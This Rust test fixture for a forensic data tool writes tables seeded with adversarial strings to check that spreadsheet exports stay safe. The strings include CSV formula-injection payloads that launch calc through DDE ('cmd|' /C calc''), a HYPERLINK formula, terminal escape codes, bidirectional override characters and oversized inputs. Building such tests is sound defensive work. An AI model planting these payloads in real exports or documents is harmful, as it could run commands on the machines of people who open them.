//! A small case written by somebody who wants the reader's spreadsheet.
//!
//! Every table is there; most are empty. What is planted: texts that a spreadsheet would run or show
//! as something else, long ids, times of every precision, a picture whose position is protected and
//! one whose position is not, a declared name.

#![allow(dead_code, reason = "each test takes what it needs of it")]
#![allow(clippy::unwrap_used, reason = "what is planted is sound")]

use std::path::Path;

use faisceau_model::rows::{
    Account, Address, AddressVerdict, Answer, ClockCheck, Comparison, Connection, Contribution,
    CoordinationGroup, Device, ExhibitRow, Explanation, Identity, Link, MailHop, MailOrigin,
    MailVerdict, Media, MediaField, Name, Post, Raid, Reject, Request, SignIn, Signature,
    Subscriber, UnknownField,
};
use faisceau_model::{
    Absent, AccountKey, Decision, ExhibitNo, Family, Maybe, Moment, Place, Precision, Review,
    RowId, SubscriberCategory, Trust, ZoneSource,
};
use faisceau_tables::write;

/// What the adversary wrote.
pub(crate) fn hostile_texts() -> Vec<String> {
    let mut texts: Vec<String> = [
        "=HYPERLINK(\"https://example.org/?\"&A1;\"cliquez\")",
        "-2+3+cmd|' /C calc'!A0",
        "+33612345678",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r\n=1+1",
        "un texte;=1+1;\"fin\"",
        "merci, @quelqu'un\n- tiret\n- tiret",
        "'=déjà une apostrophe",
        "https://example.org/piege",
        "mailto:piege@example.org",
        "internal:Sheet1!A1",
        "_x0000_ et _x0041_ et _x005F_",
        "a\u{0}b\u{1b}[31mc\u{7f}\u{85}\u{fffe}\u{ffff}\u{feff}",
        "\u{202e}lapsus\u{200f}",
        "\u{200f}=1+1",
        "00012345678901234567890",
        "1e5",
        "2026-03-01",
        "TRUE",
        "#N/A",
        "",
        " espaces autour ",
        "<x>&amp;\"'</x>]]>",
        "e\u{301} é",
        "＝1+1",
        "🙂\u{301}",
    ]
    .map(str::to_owned)
    .to_vec();
    texts.push(format!("={}", "long ".repeat(210_000)));
    texts.push("\u{10ffff}".repeat(20_000));
    texts
}

fn known<T>(value: T) -> Maybe<T> {
    Maybe::Known(value)
}

pub(crate) fn moment(us: i64, precision: Precision) -> Moment {
    Moment::new(us, precision, ZoneSource::Explicit).unwrap()
}

/// Microseconds of 2026-03-01T14:05:12Z.
pub(crate) const NOON: i64 = 1_772_373_912_000_000;

fn times() -> Vec<Moment> {
    let mut times: Vec<Moment> = Precision::ALL.iter().map(|p| moment(NOON, *p)).collect();
    times.extend(Precision::ALL.iter().map(|p| moment(NOON + 123_456, *p)));
    times.push(moment(NOON + 120_000, Precision::Milli));
    times.push(moment(-1, Precision::Second));
    // The years 9999 and -5.
    times.push(moment(253_402_207_200_000_000, Precision::Second));
    times.push(moment(-62_320_000_000_000_000, Precision::Day));
    times
}

pub(crate) fn account(number: usize) -> AccountKey {
    AccountKey::by_id("x", &format!("{}", 2_014_152_039_461_823_496 + number as u64))
}

fn place(number: usize) -> Place {
    Place::Line { number: number as u64 + 1, byte: 40 * number as u64 }
}

pub(crate) fn posts() -> Vec<Post> {
    let (exhibit, times) = (ExhibitNo::top(1), times());
    let texts = hostile_texts().into_iter().enumerate();
    texts
        .map(|(n, text)| Post {
            at: times.get(n).copied().map_or(Maybe::Missing(Absent::NotExported), known),
            stamped: known(moment(NOON + n as i64, Precision::Micro)),
            text: if text.is_empty() {
                Maybe::Missing(Absent::Deleted)
            } else {
                known(text.clone())
            },
            text_raw: known(text.clone()),
            thread: known(String::new()),
            media: if n % 2 == 0 { vec![text, "b, c;=d".to_owned()] } else { Vec::new() },
            ..Post::new(exhibit, &place(n), 0, account(n % 3))
        })
        .collect()
}

pub(crate) fn connections() -> Vec<Connection> {
    let connection = |n: usize, ip: &str| {
        let exhibit = ExhibitNo::top(2);
        Connection::new(exhibit, &place(n), 0, ip.to_owned(), "=service")
    };
    vec![
        Connection {
            account: known(account(0)),
            at: known(moment(NOON, Precision::Second)),
            port: known(50_123),
            bytes: known(i64::MAX),
            user_agent: known("=cmd".to_owned()),
            request: known("GET /\u{1b}[2J HTTP/1.1".to_owned()),
            ..connection(0, "192.0.2.1")
        },
        Connection {
            at: known(moment(NOON, Precision::Minute)),
            port: known(443),
            declared: true,
            ..connection(1, "2001:db8::1")
        },
        connection(2, "192.0.2.2"),
    ]
}

pub(crate) fn media() -> Vec<Media> {
    let image = |n: usize| Media {
        name: "-photo.jpg".to_owned(),
        latitude: known(47.512_345_678_9),
        longitude: known(-1.25),
        taken: known(moment(NOON, Precision::Second)),
        modified: known(moment(NOON + 60_000_000, Precision::Second)),
        ..Media::new(ExhibitNo::top(3), &place(n), 0, "ab".repeat(32), "image/jpeg")
    };
    vec![
        Media { position_protected: true, account: known(account(1)), ..image(0) },
        Media { latitude: known(-47.25), ..image(1) },
    ]
}

fn fields() -> Vec<MediaField> {
    let names = ["GPSLatitude", "GPSLongitude", "GPSDateStamp", "Make"];
    let all = media().into_iter().flat_map(|media| names.map(|name| (media.clone(), name)));
    all.enumerate()
        .map(|(n, (media, name))| MediaField {
            id: RowId::at("mfd", media.exhibit, &media.place, n as u32 + 1),
            exhibit: media.exhibit,
            place: media.place.clone(),
            media: media.id.clone(),
            group: "GPS".to_owned(),
            name: name.to_owned(),
            value: "47.512345".to_owned(),
            byte: 12,
            length: 9,
        })
        .collect()
}

fn hops() -> Vec<MailHop> {
    vec![MailHop {
        id: RowId::at("hop", ExhibitNo::top(4), &Place::Whole, 1),
        exhibit: ExhibitNo::top(4),
        place: Place::Whole,
        message: known("<=a@example.org>".to_owned()),
        hop: 1,
        from: known("sender.example".to_owned()),
        by: known("mx.example".to_owned()),
        ip: known("192.0.2.9".to_owned()),
        port: Maybe::Missing(Absent::NotRecorded),
        at: known(moment(NOON, Precision::Second)),
        trust: Trust::Declared,
        skew: known(-5),
        raw: "Received: from sender.example".to_owned(),
    }]
}

fn comparisons() -> Vec<Comparison> {
    let scores = [0.1 + 0.2, -1.5e-300, f64::MAX, f64::INFINITY, -0.0, 3.0];
    let comparison = |(n, score): (usize, f64)| Comparison {
        id: RowId::derived("cmp", n + 1),
        a: account(0),
        b: account(1),
        signal: "writing_style".to_owned(),
        family: Family::Style,
        score,
        material_a: 250,
        material_b: -3,
        unit: "words".to_owned(),
        access: Maybe::Missing(Absent::NotApplicable),
        shared: known("=1".to_owned()),
        innocent: vec!["common_subject".to_owned()],
        parts: vec!["=x".to_owned(), "a\"b".to_owned()],
        rows: vec![format!("posts?account={}", account(0))],
    };
    scores.into_iter().enumerate().map(comparison).collect()
}

/// A declared name: it leaves only where it is asked for.
pub(crate) const DECLARED: &str = "Maud Ancelin (nom déclaré)";

fn subscribers() -> Vec<Subscriber> {
    let of = (SubscriberCategory::Email, "email", DECLARED);
    vec![Subscriber::new(ExhibitNo::top(5), &Place::Whole, 0, "x", of)]
}

pub(crate) fn reviews() -> Vec<Review> {
    vec![
        Review {
            a: account(0),
            b: account(1),
            decision: Decision::Dismiss,
            because: "=même foyer; \"voir\" pièce 3".to_owned(),
            who: "A. B.".to_owned(),
            at: "2026-03-02T10:00:00Z".to_owned(),
            seq: 14,
            figures: String::new(),
            earlier: 1,
        },
        Review {
            a: account(1),
            b: account(2),
            decision: Decision::Hold,
            because: "attendre".to_owned(),
            who: "A. B.".to_owned(),
            at: "2026-03-02T11:00:00Z".to_owned(),
            seq: 15,
            figures: String::new(),
            earlier: 0,
        },
    ]
}

/// Writes every table into a folder.
pub(crate) fn tables(folder: &Path) {
    empty_tables(folder);
    write(folder, posts()).unwrap();
    write(folder, connections()).unwrap();
    write(folder, media()).unwrap();
    write(folder, fields()).unwrap();
    write(folder, hops()).unwrap();
    write(folder, comparisons()).unwrap();
    write(folder, subscribers()).unwrap();
}

/// Writes every table empty.
pub(crate) fn empty_tables(folder: &Path) {
    macro_rules! empty {
        ($($row:ty),+) => { $( write::<$row>(folder, Vec::new()).unwrap(); )+ };
    }
    empty!(Account, Address, AddressVerdict, Answer, ClockCheck, Comparison, Connection);
    empty!(
        Contribution,
        CoordinationGroup,
        Device,
        ExhibitRow,
        Explanation,
        Identity,
        Link,
        MailHop,
        MailOrigin
    );
    empty!(MailVerdict, Media, MediaField, Name, Post, Raid, Reject, Request, SignIn, Signature);
    empty!(Subscriber, UnknownField);
}
